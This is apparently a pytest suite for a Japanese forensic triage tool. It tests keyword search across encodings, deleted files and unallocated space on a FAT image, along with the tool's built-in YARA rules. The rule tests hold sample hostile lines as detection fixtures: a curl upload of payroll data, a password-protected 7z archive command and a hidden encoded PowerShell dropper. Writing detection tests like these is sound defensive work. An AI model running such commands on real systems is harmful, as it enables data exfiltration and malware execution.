"""`triage search` over a FAT image with words in many forms; built-in rules; errors."""

from __future__ import annotations

import io
import json
import subprocess
import zipfile
from typing import TYPE_CHECKING

import pytest

from tests.conftest import needs
from triage.cli import main

if TYPE_CHECKING:
    from pathlib import Path

NUMBER = "123456789018"


def run(monkeypatch: pytest.MonkeyPatch, *arguments: str) -> int:
    monkeypatch.setattr("sys.argv", ["triage", *arguments])
    with pytest.raises(SystemExit) as stopped:
        main()
    return int(stopped.value.code or 0)


@pytest.fixture(scope="module")
def image(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("disk")
    disk = folder / "disk.dd"
    with disk.open("wb") as file:
        file.truncate(40 << 20)
    subprocess.run(["mkfs.vfat", "-F", "32", str(disk)], check=True, capture_output=True)
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as out:
        out.writestr("memo.txt", "担当は山田 太郎です。".encode())
        out.writestr("pad.txt", "x" * 10_000)
    files = {
        "utf8.txt": f"連絡先 山田太郎 (taro@example.jp) {NUMBER}".encode(),
        "sjis.txt": "山田太郎様".encode("cp932"),
        "jis.eml": b"Subject: x\r\nContent-Type: text/plain; charset=iso-2022-jp\r\n\r\n"
        + "山田太郎\r\n".encode("iso2022_jp"),
        "wide.bin": b"\1\2\3\4" + "山田太郎".encode("utf-16-le"),
        "memo.zip": archive.getvalue(),
        "gone.txt": "消した 山田太郎".encode(),
        "other.txt": "山田花子".encode(),
    }
    for name, data in files.items():
        (folder / name).write_bytes(data)
        subprocess.run(["mcopy", "-i", str(disk), str(folder / name), f"::{name}"], check=True)
    subprocess.run(["mdel", "-i", str(disk), "::gone.txt"], check=True)
    with disk.open("r+b") as file:
        file.seek((40 << 20) - 4096)
        file.write("未割当て 山田太郎".encode("euc_jp"))
    return disk


@needs("mkfs.vfat", "mcopy")
def test_every_form_once(image: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOZEN_CONFIG_HOME", str(tmp_path / "config"))
    case = tmp_path / "c"
    code = run(
        monkeypatch, "search", str(image), "--word", "山田太郎", "--regex", r"[a-z]+@example\.jp", "--case", str(case)
    )
    assert code == 0
    folder = case / "searches" / "1-disk.dd"
    hits = [json.loads(line) for line in (folder / "hits.jsonl").read_text(encoding="utf-8").splitlines()]
    found = sorted((hit["word"], hit["path"], hit["container"], hit["state"]) for hit in hits)
    assert found == [
        (0, "", "", "unallocated"),
        (0, "/_one.txt" if ("/_one.txt" in {hit["path"] for hit in hits}) else "/_ONE.TXT", "", "deleted"),
        (0, "/jis.eml", "", "allocated"),
        (0, "/memo.zip", "memo.zip!/memo.txt", "allocated"),
        (0, "/sjis.txt", "", "allocated"),
        (0, "/utf8.txt", "", "allocated"),
        (0, "/wide.bin", "", "allocated"),
        (1, "/utf8.txt", "", "allocated"),
    ]
    data = image.read_bytes()
    for hit in hits:
        if (
            hit["offset"] is not None
            and hit["word"] == 0
            and hit["encoding"] in ("utf-8", "cp932", "euc_jp", "utf-16-le")
        ):
            assert data[hit["offset"] :].startswith("山田太郎".encode(hit["encoding"]))
    everything = (folder / "hits.jsonl").read_text() + (case / "ledger.jsonl").read_text()
    assert NUMBER not in everything
    assert "山田太郎" not in (case / "ledger.jsonl").read_text(encoding="utf-8")
    summary = json.loads((folder / "summary.json").read_text(encoding="utf-8"))
    assert [word["hits"] for word in summary["words"]] == [7, 1]


def test_what_is_refused(image: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOZEN_CONFIG_HOME", str(tmp_path / "config"))
    assert run(monkeypatch, "search", str(image)) == 2
    assert run(monkeypatch, "search", str(image), "--regex", "(") == 2
    assert run(monkeypatch, "search", str(tmp_path / "none"), "--word", "山田") == 2
    assert not list(tmp_path.glob("*.case"))


def test_built_in_rules(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    assert run(monkeypatch, "rules", "--json") == 0
    listed = json.loads(capsys.readouterr().out)["rules"]
    assert {rule["rule"] for rule in listed} >= {"MyNumber_Words", "Exfil_Rclone_Config", "Dropper_Lnk_PowerShell"}
    assert all(rule["meta"]["description_ja"] and rule["meta"]["description_en"] for rule in listed)
    assert run(monkeypatch, "rules", "--copy-to", str(tmp_path / "rules")) == 0
    assert run(monkeypatch, "rules", "--copy-to", str(tmp_path / "rules")) == 5
    bad = tmp_path / "bad.yar"
    bad.write_text("rule ok { condition: true }\nrule broken { condition: nothing }\n")
    capsys.readouterr()
    assert run(monkeypatch, "rules", str(bad), "--lang", "en") == 2
    assert "bad.yar:2" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("rule", "data"),
    [
        ("MyNumber_Words", "x 個人番号 y".encode("cp932")),
        ("MyNumber_Words", "マイナンバー".encode("utf-16-le")),
        ("MyNumber_Forms", "給与支払報告書".encode("cp932")),
        ("Exfil_Rclone_Config", b"[backup]\ntype = mega\nuser = a\n"),
        ("Exfil_Archive_With_Password_Command", b"C:\\t> 7z.exe a out.7z C:\\data -pSecret1"),
        ("Exfil_Upload_Script", b"curl -T payroll.zip https://example.com/"),
        ("Dropper_PowerShell_Encoded", b"powershell -nop -w hidden -enc " + b"QUJD" * 30),
    ],
)
def test_rules_match_what_they_name(rule: str, data: bytes) -> None:
    from triage import yara_rules

    matches = yara_rules.compile_rules([yara_rules.BUILT_IN]).match(data).matches
    assert rule in [match.rule for match in matches]


def test_rules_are_silent_on_plain_text() -> None:
    from triage import yara_rules

    text = "本日の会議は 10 時からです。curl は使いません。type = drive".encode()
    assert yara_rules.compile_rules([yara_rules.BUILT_IN]).match(text).matches == ()
